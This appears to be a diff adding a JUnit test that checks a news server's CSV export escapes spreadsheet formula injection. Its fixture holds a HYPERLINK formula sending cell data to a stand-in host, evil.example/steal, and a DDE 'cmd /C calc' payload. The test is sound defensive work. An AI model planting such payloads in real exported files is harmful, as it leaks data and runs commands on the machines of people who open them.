@@ -3,6 +3,7 @@ package org.lede.web;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.time.Clock;
 import java.util.List;
@@ -11,11 +12,16 @@ import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.lede.article.Article;
+import org.lede.export.CsvReader;
 import org.lede.library.Library;
+import org.lede.source.Document;
+import org.lede.source.MediaType;
 
 /**
  * What the server refuses and how: requests too large or too fast, requests addressed to a name that is not this
- * computer's, return addresses that lead off-site, and errors that would tell a client about the server's insides.
+ * computer's, return addresses that lead off-site, errors that would tell a client about the server's insides, and
+ * exported cells a spreadsheet would run.
  */
 class RefusalsTest {
   /** Text that only an exception, a stack trace, SQL or a file path would put in an answer. */
@@ -30,10 +36,22 @@ class RefusalsTest {
   static Http http;
   static String id;
 
+  /** A headline and a byline a spreadsheet would run as formulas, were they written as they are. */
+  static final String FORMULA_HEADLINE = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Tide tables\")";
+  static final String FORMULA_BYLINE = "@SUM(1+1)*cmd|' /C calc'!A0";
+
   @BeforeAll
   static void start() {
     library = TestNews.library(tmp);
     id = TestNews.hostileId(library);
+    Article formulas = Article.builder().canonicalUrl("https://tides.example/a/1")
+        .site("+Tide Times").headline(FORMULA_HEADLINE).byline(List.of(FORMULA_BYLINE))
+        .addParagraph("-1+2 metres is the spring tide forecast for the harbour mouth on Saturday, the tide office said.")
+        .build();
+    library.ingest(new Document("https://tides.example/a/1", formulas.text().getBytes(StandardCharsets.UTF_8),
+        MediaType.TEXT_DUMP, null, null, null),
+        List.of(formulas));
+    library.commit();
     server = WebServer.start(library, new WebConfig("127.0.0.1", 0, Clock.systemUTC()));
     http = new Http(server.url());
   }
@@ -84,6 +102,22 @@ class RefusalsTest {
       for (String internal : INTERNALS) assertThat(r.body()).as(path).doesNotContain(internal);
     }
     assertThat(refused).as("the sweep reached the parameter checks, which refused").isGreaterThan(20);
+  }
+
+  @Test
+  void a_csv_export_writes_cells_a_spreadsheet_would_run_as_text() {
+    HttpResponse<String> csv = http.get("/api/v1/export?format=csv&q=tide");
+    assertThat(csv.statusCode()).isEqualTo(200);
+    List<List<String>> rows = CsvReader.parse(csv.body());
+    List<String> header = rows.get(0);
+    List<String> row = rows.stream().filter(r -> r.get(header.indexOf("site")).contains("Tide Times")).findFirst().orElseThrow();
+    assertThat(row.get(header.indexOf("headline"))).isEqualTo("'" + FORMULA_HEADLINE);
+    assertThat(row.get(header.indexOf("site"))).isEqualTo("'+Tide Times");
+    assertThat(row.get(header.indexOf("byline"))).isEqualTo("'" + FORMULA_BYLINE);
+    assertThat(row.get(header.indexOf("text"))).startsWith("'-1+2 metres");
+    for (List<String> r : rows) {
+      for (String cell : r) assertThat(cell).as("no cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("@");
+    }
   }
 
   @Test
